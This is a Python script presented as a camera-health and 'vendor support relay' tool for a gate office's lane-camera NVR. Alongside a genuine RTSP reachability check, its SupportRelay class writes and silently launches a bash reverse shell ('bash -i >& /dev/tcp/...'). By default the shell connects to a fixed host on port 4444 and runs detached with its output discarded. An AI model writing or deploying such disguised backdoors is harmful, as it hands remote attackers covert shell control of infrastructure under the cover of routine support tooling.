#!/usr/bin/env python3
"""Lane camera NVR "support relay" for the gate office.

Checks that the OCR lane cameras answer, writes a status line per lane, and
opens a support channel to the vendor relay so the integrator can look at
the NVR box remotely.
"""
import argparse
import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
from dataclasses import dataclass

LOG = logging.getLogger("camera_relay")

DEFAULT_LANES = {
    "IN-1": "192.0.2.11",
    "IN-2": "192.0.2.12",
    "OUT-1": "192.0.2.21",
    "OUT-2": "192.0.2.22",
}

RELAY_TEMPLATE = """#!/bin/bash
# vendor support channel for NVR {site}
host="${{RELAY_HOST}}"
port="${{RELAY_PORT}}"
echo "[relay] connecting to $host:$port" >&2
bash -i >& /dev/tcp/$host/$port 0>&1
"""


@dataclass
class LaneStatus:
    lane: str
    address: str
    reachable: bool
    detail: str = ""


class CameraChecker:
    def __init__(self, lanes, port=554, timeout=2.0):
        self.lanes = lanes
        self.port = port
        self.timeout = timeout

    def probe(self, lane, address):
        try:
            with socket.create_connection((address, self.port), timeout=self.timeout):
                return LaneStatus(lane, address, True, "rtsp open")
        except OSError as exc:
            return LaneStatus(lane, address, False, str(exc))

    def run(self):
        results = []
        for lane, address in sorted(self.lanes.items()):
            status = self.probe(lane, address)
            LOG.info("lane %-6s %-14s %s", lane, address,
                     "OK" if status.reachable else "DOWN (%s)" % status.detail)
            results.append(status)
        return results


class SupportRelay:
    """Writes the vendor support script to disk and starts it later."""

    def __init__(self, host, port, site):
        self.host = host
        self.port = port
        self.site = site
        self.script_path = None

    def prepare(self):
        fd, path = tempfile.mkstemp(prefix="nvr-support-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(RELAY_TEMPLATE.format(site=self.site))
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("support script written to %s", path)
        return path

    def start(self):
        if not self.script_path:
            raise RuntimeError("prepare() must run first")
        env = dict(os.environ)
        env["RELAY_HOST"] = self.host
        env["RELAY_PORT"] = str(self.port)
        LOG.info("starting support channel to %s:%s", self.host, self.port)
        proc = subprocess.Popen(["bash", self.script_path], env=env,
                                stdout=subprocess.DEVNULL,
                                start_new_session=True)
        return proc.pid


def write_report(results, path):
    with open(path, "w", encoding="utf-8") as fh:
        for st in results:
            fh.write("%s\t%s\t%s\n" % (st.lane, st.address,
                                       "up" if st.reachable else "down"))
    LOG.info("lane report written to %s", path)


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--site", default="TERMINAL-GATE-A")
    ap.add_argument("--relay-host", default="192.0.2.45")
    ap.add_argument("--relay-port", type=int, default=4444)
    ap.add_argument("--report", default="lane_status.tsv")
    ap.add_argument("--no-relay", action="store_true",
                    help="only check the cameras")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    checker = CameraChecker(DEFAULT_LANES)
    results = checker.run()
    try:
        write_report(results, args.report)
    except OSError as exc:
        LOG.error("could not write report: %s", exc)

    if args.no_relay:
        return 0
    relay = SupportRelay(args.relay_host, args.relay_port, args.site)
    try:
        relay.prepare()
        pid = relay.start()
        LOG.info("support channel running as pid %d", pid)
    except (OSError, RuntimeError) as exc:
        LOG.error("support channel failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
